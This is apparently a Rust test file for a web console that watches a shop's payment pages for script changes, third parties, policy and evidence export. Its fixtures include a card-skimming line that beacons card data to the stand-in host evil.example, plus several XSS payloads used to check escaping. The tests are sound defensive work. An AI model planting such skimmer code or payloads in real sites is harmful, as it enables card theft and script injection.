//! What the console says of the shop's pages.

use std::time::Duration;

use gabion_markup::PageClass;

use crate::harness::Harness;
use crate::sights::{CHECKOUT, SITE, SKIMMER};

/// Every view of a site.
pub(crate) const VIEWS: [&str; 7] = [
    "/pages",
    "/pages/classes",
    "/pages/desk",
    "/pages/changes",
    "/pages/third-parties",
    "/pages/policy",
    "/pages/evidence",
];

#[tokio::test]
async fn before_anything_was_seen_every_view_says_what_will_come() {
    let harness = Harness::new().await;
    for (path, words) in [
        ("/pages", "No page was seen yet"),
        ("/pages/desk", "Nothing waits"),
        ("/pages/changes", "No changes yet"),
        ("/pages/changes?severity=critical", "No change fits these filters"),
        ("/pages/third-parties", "No third parties yet"),
        ("/pages/policy", "No page was seen yet"),
        ("/pages/evidence", "No payment page was seen."),
    ] {
        harness.page("auditor", path).await.shows(words);
    }
    for path in VIEWS {
        let page = harness.page("owner", path).await;
        page.shows("aria-label=\"Pages\"");
        assert_eq!(page.text.matches("<h1>").count(), 1, "{path}");
    }
}

#[tokio::test]
async fn an_inventory_fills_by_itself_and_is_approved_in_a_few_steps() {
    let harness = Harness::new().await;
    harness.checkout().await;
    let glance = harness.page("operator", "/pages").await;
    glance.shows("Gabion guessed which pages are for paying");
    glance.shows("Payment pages");
    harness.page("operator", "/pages/classes").await.shows("value=\"/checkout/*\"");
    let form = format!("site={SITE}&path=/checkout&class=payment&path=&class=other");
    let confirmed = harness.post("operator", "/pages/classes", &form).await;
    assert_eq!((confirmed.status(), confirmed.header("location")), (303, "/pages"));
    harness.page("operator", "/pages").await.shows("3 scripts on your payment pages wait for your word.");

    let desk = harness.page("operator", "/pages/desk").await;
    for text in ["js.stripe.com", "Stripe takes payments; we use it here", "card data", "autofocus"] {
        desk.shows(text);
    }
    let form =
        format!("site={SITE}&class=payment&justification=All+ours&owner=Mara&destinations=on&headers=on");
    let approved = harness.post("operator", "/pages/desk/class", &form).await;
    assert_eq!((approved.status(), approved.header("location")), (303, "/pages/desk"));
    let desk = harness.page("operator", "/pages/desk").await;
    desk.shows("Nothing waits");
    desk.shows("Approved as it is");
    desk.shows("<td>you</td>");
    harness.page("support", "/pages").await.shows("Nothing changed on your pages since you approved them.");
}

#[tokio::test]
async fn a_planted_skimmer_is_named_with_what_it_does_and_what_to_do() {
    let harness = Harness::new().await;
    harness.checkout().await;
    harness.post("owner", "/pages/classes", &format!("site={SITE}&path=/checkout&class=payment")).await;
    let form = format!("site={SITE}&class=payment&justification=All+ours&destinations=on&headers=on");
    harness.post("owner", "/pages/desk/class", &form).await;
    harness.clock.advance(Duration::from_secs(60));
    harness.serve(PageClass::Payment, "/checkout", &format!("{CHECKOUT}{SKIMMER}")).await;

    let glance = harness.page("owner", "/pages").await;
    glance.shows("alert-danger");
    glance.shows("wait");
    let link = glance.text.split("href=\"/pages/changes/").nth(1).unwrap().split('"').next().unwrap();
    let change = harness.page("owner", &format!("/pages/changes/{link}")).await;
    change.shows("evil.example");
    change.shows("What to do next");
    change.shows("/checkout");
    change.shows("line-new");
    let critical = harness.page("owner", "/pages/changes?severity=critical&state=open").await;
    critical.shows("New script");
    critical.hides("No change fits");
}

#[tokio::test]
async fn a_changed_file_is_shown_line_by_line() {
    let harness = Harness::new().await;
    harness.checkout().await;
    harness.clock.advance(Duration::from_secs(60));
    let changed = "cart.show();\nnavigator.sendBeacon('https://evil.example/c', card.value);";
    harness.serve_script("https://shop.example/static/cart.js", changed).await;
    let id = harness.scripts("cart.js").await.remove(0);
    let page = harness.page("auditor", &format!("/pages/scripts/{id}")).await;
    page.shows("1 line added, 0 removed");
    page.shows("<ins>navigator.sendBeacon");
    page.shows("Sends data to this place, or loads something from it: https://evil.example");
    page.shows("yours, from https://shop.example");
    page.hides("<button class=\"primary\" name=\"verdict\"");
}

#[tokio::test]
async fn names_that_strangers_chose_are_text_and_long_ones_fit() {
    let harness = Harness::new().await;
    let long = "x".repeat(900);
    let page = format!(
        "<script src=\"https://cdn.example/&quot;><b>{long}.js\"></script>\
         <script>/*<script><img src=x onerror=alert(1)>*/ go(\"'><svg onload=alert(2)>\");</script>\
         <form action=\"https://evil.example/&quot;onfocus=&quot;\"><input name=card autocomplete=cc-number></form>"
    );
    harness.serve(PageClass::Payment, "/checkout", &page).await;
    let mut paths: Vec<String> = VIEWS.map(str::to_owned).to_vec();
    for id in harness.scripts("").await {
        paths.push(format!("/pages/scripts/{id}"));
    }
    assert!(paths.len() > VIEWS.len(), "scripts are known");
    for path in paths {
        let shown = harness.page("owner", &path).await;
        assert_eq!(shown.status(), 200, "{path}");
        for hostile in ["<b>", "<img src=x", "<svg onload", "\"onfocus"] {
            shown.hides(hostile);
        }
    }
}

#[tokio::test]
async fn the_map_shows_who_could_read_cards_and_the_list_can_be_taken_away() {
    let harness = Harness::new().await;
    harness.checkout().await;
    let page = harness.page("operator", "/pages/third-parties").await;
    page.shows("aria-label=\"Which pages talk to whom: Payment to js.stripe.com (Stripe)");
    page.shows("could read card data");
    page.shows("pixel.example");
    page.shows("origin=https%3A%2F%2Fjs.stripe.com");
    let list = harness.page("support", "/pages/third-parties/list.txt").await;
    assert_eq!(list.header("content-type"), "text/plain; charset=utf-8");
    assert!(list.header("content-disposition").starts_with("attachment"));
    list.shows("Stripe (js.stripe.com)");
}

#[tokio::test]
async fn the_policy_says_what_it_would_stop_and_with_what_it_was_weighed() {
    let harness = Harness::new().await;
    harness.checkout().await;
    let page = harness.page("operator", "/pages/policy").await;
    page.shows("Weighed with 1 page view and 0 reports");
    page.shows("Say first what your pages are for");
    page.shows("What it would stop now");
    page.shows("js.stripe.com");
    page.shows("script-src");
    harness.page("auditor", "/pages/policy").await.hides("More choices");
}

#[tokio::test]
async fn evidence_is_signed_and_whoever_took_it_is_written_down() {
    let harness = Harness::new().await;
    harness.checkout().await;
    let page = harness.page("auditor", "/pages/evidence?from=2023-11-01&to=2023-11-14").await;
    page.shows("looked at one while serving it: 1.");
    page.shows("your acquirer");
    for promise in ["compliant", "certified"] {
        page.hides(promise);
    }
    let form = format!("site={SITE}&from=2023-11-01&to=2023-11-14");
    let record = harness.post("auditor", "/pages/evidence", &form).await;
    assert_eq!(record.header("content-type"), "application/json");
    assert!(harness.pages.verify_evidence(&record.text).is_ok());
    harness.page("owner", "/events?kind=pages.evidence_exported").await.shows("Evidence exported");
    for (from, to) in [("2023-11-14", "2023-11-01"), ("2020-01-01", "2023-11-01"), ("soon", "2023-11-01")] {
        let page = harness.page("owner", &format!("/pages/evidence?from={from}&to={to}")).await;
        page.shows("role=\"alert\"");
        let refused =
            harness.post("owner", "/pages/evidence", &format!("site={SITE}&from={from}&to={to}")).await;
        refused.shows("role=\"alert\"");
    }
}

#[tokio::test]
async fn what_is_not_there_is_not_found() {
    let harness = Harness::new().await;
    for path in [
        "/pages?site=elsewhere",
        "/pages/scripts/scr_00000000000000000000000001",
        "/pages/changes/chg_00000000000000000000000001",
        "/pages/third-parties/decide?origin=https://a.example&act=stop",
        "/pages/policy/enforce?class=payment",
    ] {
        assert_eq!(harness.page("owner", path).await.status(), 404, "{path}");
    }
    for path in ["/pages/changes?state=maybe", "/pages/changes?cursor=%20", "/pages/policy/enforce?class=x"] {
        assert_eq!(harness.page("owner", path).await.status(), 400, "{path}");
    }
}
